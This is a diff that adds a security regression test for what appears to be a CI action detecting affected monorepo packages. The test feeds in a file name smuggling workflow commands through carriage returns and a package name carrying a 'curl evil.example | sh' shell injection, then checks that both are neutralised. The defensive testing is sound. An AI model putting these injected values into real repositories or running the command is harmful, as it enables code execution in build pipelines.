@@ -262,4 +262,33 @@ describe('affected bundle under runner-sim', () => {
     expect(err.message).toMatch(/outputz/);
     expect(r.log).not.toMatch(/\n\s+at .*\.js:\d+/); // no stack trace
   });
+
+  describe('hostile names (security review #13)', () => {
+    test('a CR and a workflow command in a changed file name are logged as text, never run; a package named as shell code is refused at its manifest', async () => {
+      fx.checkout('main');
+      fx.branch('cr-name');
+      const crName = 'packages/web/src/x\r::add-mask::hunter2\r::error title=pwned::injected.ts';
+      fx.commit('odd name', { [crName]: 'export const x = 1;\n' });
+      const p = fx.pullRequest(61, 'main', 'cr-name');
+      const r = await runAction({ actionDir, workspace: fx.checkoutLike(p.merge, { depth: 1 }), event: pullRequestEvent({ repo: REPO, number: 61, ...p }), token, apiUrl: gh.url, stages: ['main'] });
+      assertContract(r);
+      expect(r.conclusion).toBe('success');
+      expect(JSON.parse(r.outputs['projects']!)).toEqual(['@shop/web']);
+      // The reason naming the file reached the log (as text)…
+      expect(r.log).toMatch(/@shop\/web: packages\/web\/src\/x\n\u200b::add-mask::hunter2\n\u200b::error title=pwned::injected\.ts changed/);
+      // …and nothing in it ran: no mask, no annotation from the file name.
+      expect(r.masks).toEqual([]);
+      expect(r.annotations.filter((a) => a.title === 'pwned' || /injected/.test(a.message))).toEqual([]);
+
+      fx.checkout('main');
+      fx.branch('evil-name');
+      fx.commit('evil package', { 'packages/evil/package.json': pkg('c;$(curl -s evil.example|sh);#') });
+      const q = fx.pullRequest(62, 'main', 'evil-name');
+      const bad = await runAction({ actionDir, workspace: fx.checkoutLike(q.merge, { depth: 1 }), event: pullRequestEvent({ repo: REPO, number: 62, ...q }), token, apiUrl: gh.url, stages: ['main'] });
+      expect(bad.conclusion).toBe('failure');
+      expect(bad.annotations).toContainEqual(expect.objectContaining({ level: 'error', file: 'packages/evil/package.json', message: expect.stringMatching(/project name "c;\$\(curl -s evil\.example\|sh\);#" is not a valid package name/) }));
+      expect(Object.values(bad.outputs).join('\n')).not.toContain('curl');
+    });
+  });
 });
+
